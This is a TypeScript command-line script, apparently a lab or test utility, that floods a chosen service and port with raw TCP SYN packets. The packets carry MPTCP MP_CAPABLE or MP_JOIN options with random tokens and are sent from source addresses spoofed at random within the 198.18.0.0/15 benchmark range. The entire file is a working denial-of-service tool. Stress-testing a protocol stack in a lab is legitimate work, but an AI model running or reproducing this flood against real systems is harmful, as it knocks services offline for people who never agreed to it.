/**
 * Floods a service: SYNs with MP_CAPABLE, or with MP_JOIN and random tokens, from random addresses.
 * Usage: flood KIND SERVICE PORT COUNT
 */
import { closeDescriptor, rawSocket, sendRaw } from '@subflow/link';
import { buildPacket, FLAG, ipHeader, parseAddress, PROTOCOL } from '@subflow/wire';

const [kind, service, port, count] = process.argv.slice(2) as [string, string, string, string];
const random = (): number => Math.floor(Math.random() * 2 ** 32);
const fd = rawSocket(4);
process.stdout.write('ready\n');
let sent = 0;
for (let i = 0; i < Number(count); i++) {
  // 198.18.0.0/15 is for benchmarks (RFC 2544); nothing answers there.
  const source = Uint8Array.of(198, 18 + (random() & 1), random() & 255, random() & 255);
  const option =
    kind === 'join'
      ? ({ subtype: 'join-syn', flags: 0, addressId: 1, token: random(), nonce: random() } as const)
      : ({ subtype: 'capable', version: 1, flags: 1, senderKey: null, receiverKey: null, dataLength: null, checksum: null } as const);
  const packet = buildPacket(ipHeader(source, parseAddress(service), PROTOCOL.tcp), {
    tcp: {
      sourcePort: 1024 + (random() % 60_000),
      destinationPort: Number(port),
      seq: random(),
      ack: 0,
      headerLength: 20,
      reserved: 0,
      flags: FLAG.syn,
      window: 65_535,
      checksum: 0,
      urgent: 0,
      options: [
        { kind: 'mss', value: 1460 },
        { kind: 'mptcp', option },
      ],
    },
  });
  if (sendRaw(fd, packet) === 0) sent++;
}
closeDescriptor(fd);
process.stdout.write(`${sent}\n`);
